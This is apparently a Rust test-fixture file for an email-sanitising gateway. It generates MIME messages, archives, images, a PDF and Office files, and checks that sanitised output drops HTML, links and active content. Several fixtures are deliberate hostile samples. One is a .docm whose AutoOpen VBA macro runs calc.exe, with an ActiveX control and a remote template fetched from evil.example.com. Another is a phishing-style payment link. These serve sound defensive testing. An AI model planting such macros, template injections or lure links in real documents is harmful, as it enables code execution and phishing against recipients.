//! Fixtures generated in the tests: messages, Office files, archives, images. Nothing is read
//! from disk, so every case states exactly what it feeds the sanitiser.
#![allow(dead_code, clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::{Cursor, Write};

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;
use mail_parser::{MessageParser, MimeHeaders, PartType};
use mamori_sanitize::{
    AttachmentResult, Decision, FileKind, Outcome, Policy, SanitizeContext, kind_from_mime,
};
use zip::write::SimpleFileOptions;

pub fn ctx() -> SanitizeContext {
    let mut c = SanitizeContext::new(
        "Q-20261126-0001",
        chrono::DateTime::parse_from_rfc3339("2026-11-26T10:00:00+09:00").unwrap(),
    );
    c.envelope_recipients = vec!["soumu@city.example.lg.jp".into()];
    c
}

pub fn b64_lines(bytes: &[u8]) -> String {
    let s = B64.encode(bytes);
    s.as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap().to_string() + "\r\n")
        .collect()
}

pub const HEADERS: &str = "From: =?UTF-8?B?5bGx55Sw5aSq6YOO?= <yamada@example.co.jp>\r\n\
To: soumu@city.example.lg.jp\r\n\
Cc: kaikei@city.example.lg.jp\r\n\
Date: Thu, 26 Nov 2026 09:58:01 +0900\r\n\
Message-ID: <20261126095801.1234@mail.example.co.jp>\r\n\
In-Reply-To: <prev-1@city.example.lg.jp>\r\n\
References: <root-0@city.example.lg.jp>\r\n <prev-1@city.example.lg.jp>\r\n\
Subject: =?ISO-2022-JP?B?GyRCMnE1RCRONUQ7dk8/JE43bxsoQg==?=\r\n\
MIME-Version: 1.0\r\n";

/// A single-part message.
pub fn single(headers: &str, content_type: &str, cte: &str, body: &[u8]) -> Vec<u8> {
    let mut m = format!(
        "{headers}Content-Type: {content_type}\r\nContent-Transfer-Encoding: {cte}\r\n\r\n"
    )
    .into_bytes();
    m.extend_from_slice(body);
    m
}

/// A part with base64 content.
pub fn part_b64(headers: &str, bytes: &[u8]) -> String {
    format!(
        "{headers}Content-Transfer-Encoding: base64\r\n\r\n{}",
        b64_lines(bytes)
    )
}

pub fn attachment(content_type: &str, filename_params: &str, bytes: &[u8]) -> String {
    part_b64(
        &format!(
            "Content-Type: {content_type}\r\nContent-Disposition: attachment; {filename_params}\r\n"
        ),
        bytes,
    )
}

pub fn text_part(text: &str) -> String {
    part_b64(
        "Content-Type: text/plain; charset=UTF-8\r\n",
        text.as_bytes(),
    )
}

/// A multipart message (or a nested multipart when `headers` is just its Content-Type line).
pub fn multipart(headers: &str, subtype: &str, boundary: &str, parts: &[String]) -> String {
    let mut m =
        format!("{headers}Content-Type: multipart/{subtype}; boundary=\"{boundary}\"\r\n\r\n");
    for p in parts {
        m.push_str(&format!("--{boundary}\r\n{p}\r\n"));
    }
    m.push_str(&format!("--{boundary}--\r\n"));
    m
}

pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Set the "encrypted" flag on every entry (what a PPAP zip looks like to a scanner).
pub fn mark_encrypted(mut zip: Vec<u8>) -> Vec<u8> {
    let mut i = 0;
    while i + 10 < zip.len() {
        if zip[i..].starts_with(b"PK\x03\x04") {
            zip[i + 6] |= 1;
        } else if zip[i..].starts_with(b"PK\x01\x02") {
            zip[i + 8] |= 1;
        }
        i += 1;
    }
    zip
}

pub const WORD_TEXT: &str =
    "見積金額は 12,000 円です。詳細は https://evil.example.com/pay をご確認ください。";

/// A .docm: a Word document with a VBA project, an ActiveX control and a remote template.
pub fn docm() -> Vec<u8> {
    let content_types = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>"#;
    let rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
    let document = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>御見積書</w:t></w:r></w:p><w:p><w:r><w:t>{WORD_TEXT}</w:t></w:r></w:p><w:p><w:r><w:object><w:control r:id="rId9" w:name="CommandButton1"/></w:object></w:r></w:p></w:body></w:document>"#
    );
    let doc_rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/></Relationships>"#;
    let settings = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>"#;
    let settings_rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example.com/t.dotm" TargetMode="External"/></Relationships>"#;
    zip_of(&[
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", rels),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", doc_rels),
        ("word/settings.xml", settings),
        ("word/_rels/settings.xml.rels", settings_rels),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub"),
        ("word/_rels/vbaProject.bin.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>"#),
        ("word/vbaData.xml", b"<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>"),
        ("word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"),
    ])
}

/// An .xlsx (no macros) with a shared string, a number and an inline string.
pub fn xlsx(with_macro: bool) -> Vec<u8> {
    let main_ct = if with_macro {
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    } else {
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    };
    let content_types = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{main_ct}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>"#
    );
    let workbook = r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="見積" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>"#;
    let wb_rels = br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rId4" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#;
    let sheet = r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>鉛筆</t></is></c><c r="B2"><v>12</v></c></row></sheetData></worksheet>"#;
    let shared = r#"<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>品名</t><rPh sb="0" eb="2"><t>ヒンメイ</t></rPh></si><si><t>数量</t></si></sst>"#;
    let rels = br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", content_types.as_bytes()),
        ("_rels/.rels", rels),
        ("xl/workbook.xml", workbook.as_bytes()),
        ("xl/_rels/workbook.xml.rels", wb_rels),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        ("xl/sharedStrings.xml", shared.as_bytes()),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
    ];
    if with_macro {
        entries.push((
            "xl/vbaProject.bin",
            b"\xd0\xcf\x11\xe0 VBA Sub Workbook_Open()",
        ));
    }
    zip_of(&entries)
}

pub fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A small PNG with a tEXt chunk carrying "metadata" that must not survive.
pub fn png_with_metadata(secret: &str) -> Vec<u8> {
    let img = image::RgbImage::from_fn(8, 8, |x, y| image::Rgb([x as u8 * 30, y as u8 * 30, 128]));
    let mut png = Vec::new();
    image::DynamicImage::ImageRgb8(img)
        .write_to(&mut Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    let iend = png.len() - 12;
    let mut chunk_data = b"Comment\0".to_vec();
    chunk_data.extend_from_slice(secret.as_bytes());
    let mut chunk = (chunk_data.len() as u32).to_be_bytes().to_vec();
    let mut typed = b"tEXt".to_vec();
    typed.extend_from_slice(&chunk_data);
    chunk.extend_from_slice(&typed);
    chunk.extend_from_slice(&crc32(&typed).to_be_bytes());
    png.splice(iend..iend, chunk);
    png
}

/// A small JPEG with an APP1/Exif segment carrying "metadata".
pub fn jpeg_with_exif(secret: &str) -> Vec<u8> {
    let img = image::RgbImage::from_fn(16, 16, |x, y| image::Rgb([x as u8 * 10, y as u8 * 10, 64]));
    let mut jpg = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut jpg, 90)
        .encode_image(&img)
        .unwrap();
    let mut payload = b"Exif\0\0".to_vec();
    payload.extend_from_slice(secret.as_bytes());
    let mut seg = vec![0xFF, 0xE1];
    seg.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
    seg.extend_from_slice(&payload);
    jpg.splice(2..2, seg);
    jpg
}

pub fn exe_bytes() -> Vec<u8> {
    let mut v = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    v.extend_from_slice(&[0u8; 48]);
    v.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
    v
}

/// The parsed output and its decoded body text.
pub struct Parsed {
    pub body: String,
    pub subject: Option<String>,
    pub attachments: Vec<(String, String, Vec<u8>)>,
    pub content_types: Vec<String>,
    pub raw: String,
}

pub fn parse_output(out: &Outcome) -> Parsed {
    let msg = MessageParser::default()
        .parse(&out.message)
        .expect("output must parse as MIME");
    let body = msg
        .body_text(0)
        .map(|b| b.replace("\r\n", "\n"))
        .unwrap_or_default();
    let mut content_types = Vec::new();
    for p in &msg.parts {
        if let Some(ct) = p.content_type() {
            content_types.push(
                format!("{}/{}", ct.ctype(), ct.subtype().unwrap_or("")).to_ascii_lowercase(),
            );
        }
    }
    let attachments = msg
        .attachments()
        .map(|a| {
            let ct = a
                .content_type()
                .map(|c| format!("{}/{}", c.ctype(), c.subtype().unwrap_or("")))
                .unwrap_or_default();
            (
                a.attachment_name().unwrap_or("").to_string(),
                ct,
                a.contents().to_vec(),
            )
        })
        .collect();
    Parsed {
        body,
        subject: msg.subject().map(str::to_string),
        attachments,
        content_types,
        raw: String::from_utf8_lossy(&out.message).into_owned(),
    }
}

/// The invariants every output must satisfy, whatever the input.
pub fn assert_invariants(out: &Outcome, policy: &Policy) {
    let msg = MessageParser::default()
        .parse(&out.message)
        .expect("output must parse as MIME");
    assert!(!msg.parts.is_empty(), "output has no parts");
    for p in &msg.parts {
        if let Some(ct) = p.content_type() {
            let t = format!("{}/{}", ct.ctype(), ct.subtype().unwrap_or("")).to_ascii_lowercase();
            assert_ne!(t, "text/html", "text/html part in output");
            assert!(!matches!(p.body, PartType::Html(_)), "html body in output");
        }
    }
    assert!(
        msg.html_body
            .iter()
            .all(|&i| !matches!(msg.parts[i as usize].body, PartType::Html(_)))
    );
    // Lines stay within SMTP's limit.
    for line in out.message.split(|&b| b == b'\n') {
        assert!(line.len() <= 998, "line longer than 998 octets");
    }
    let allowed_kinds = [FileKind::Text, FileKind::Image, FileKind::Ooxml];
    for a in msg.attachments() {
        let name = a.attachment_name().unwrap_or("").to_string();
        let report = out
            .report
            .attachments
            .iter()
            .find(|r| r.converted_name.as_deref() == Some(name.as_str()))
            .unwrap_or_else(|| panic!("delivered attachment {name:?} has no report"));
        assert_eq!(report.result, AttachmentResult::Converted);
        assert_eq!(
            policy.decision(report.kind),
            Decision::Convert,
            "{name}: policy did not allow it"
        );
        let ct = a
            .content_type()
            .map(|c| format!("{}/{}", c.ctype(), c.subtype().unwrap_or("")))
            .unwrap_or_default();
        let by_type = kind_from_mime(&ct);
        assert!(
            by_type.is_some_and(|k| allowed_kinds.contains(&k)),
            "{name}: delivered type {ct} is not a harmless conversion"
        );
        let bytes = a.contents();
        assert!(!bytes.starts_with(b"MZ"), "{name}: executable delivered");
        if by_type == Some(FileKind::Ooxml) {
            let archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("delivered OOXML opens");
            for n in archive.file_names() {
                let n = n.expect("entry name");
                let l = n.to_ascii_lowercase();
                assert!(
                    !l.contains("vbaproject")
                        && !l.contains("activex")
                        && !l.contains("embeddings"),
                    "{name}: active content {n} delivered"
                );
            }
        }
    }
    if out.report.status == mamori_sanitize::Status::Sanitized {
        let body = msg.body_text(0).unwrap_or_default();
        assert!(
            body.starts_with("【無害化処理のお知らせ】"),
            "notice missing: {body}"
        );
        let lower = body.to_ascii_lowercase();
        assert!(
            !lower.contains("http://") && !lower.contains("https://"),
            "live link in body"
        );
    }
}

/// A one-page PDF written by hand: a Latin line in Helvetica and a Japanese line in a Type0
/// (Identity-H) font whose ToUnicode CMap maps glyph codes 1, 2, … to the characters of
/// `japanese` — how real Japanese PDFs carry text. The content stream is zlib-compressed when
/// `compress` is set.
pub fn pdf_with_text(latin: &str, japanese: &str, compress: bool) -> Vec<u8> {
    let codes: String = (1..=japanese.chars().count())
        .map(|i| format!("{i:04X}"))
        .collect();
    let content =
        format!("BT /F2 12 Tf 72 760 Td ({latin}) Tj ET\nBT /F1 12 Tf 72 740 Td <{codes}> Tj ET\n");
    let mut bfchar = String::new();
    for (i, c) in japanese.chars().enumerate() {
        bfchar.push_str(&format!("<{:04X}> <{:04X}>\n", i + 1, c as u32));
    }
    let cmap = format!(
        "/CIDInit /ProcSet findresource begin\n12 dict begin\nbegincmap\n\
         /CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n\
         /CMapName /Adobe-Identity-UCS def\n/CMapType 2 def\n\
         1 begincodespacerange\n<0000> <FFFF>\nendcodespacerange\n\
         {} beginbfchar\n{bfchar}endbfchar\nendcmap\n\
         CMapName currentdict /CMap defineresource pop\nend\nend\n",
        japanese.chars().count()
    );
    let stream = |dict: &str, data: &[u8]| -> Vec<u8> {
        let mut o = format!("<< {dict} /Length {} >>\nstream\n", data.len()).into_bytes();
        o.extend_from_slice(data);
        o.extend_from_slice(b"\nendstream");
        o
    };
    let content_obj = if compress {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(content.as_bytes()).unwrap();
        stream("/Filter /FlateDecode", &e.finish().unwrap())
    } else {
        stream("", content.as_bytes())
    };
    let objects: Vec<Vec<u8>> = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R /F2 8 0 R >> >> /Contents 4 0 R >>".to_vec(),
        content_obj,
        b"<< /Type /Font /Subtype /Type0 /BaseFont /KozMinPr6N-Regular /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>".to_vec(),
        b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /KozMinPr6N-Regular /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>".to_vec(),
        stream("", cmap.as_bytes()),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_vec(),
    ];
    let mut pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(pdf.len());
        pdf.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        pdf.extend_from_slice(body);
        pdf.extend_from_slice(b"\nendobj\n");
    }
    let xref = pdf.len();
    pdf.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        pdf.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    pdf.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    pdf
}
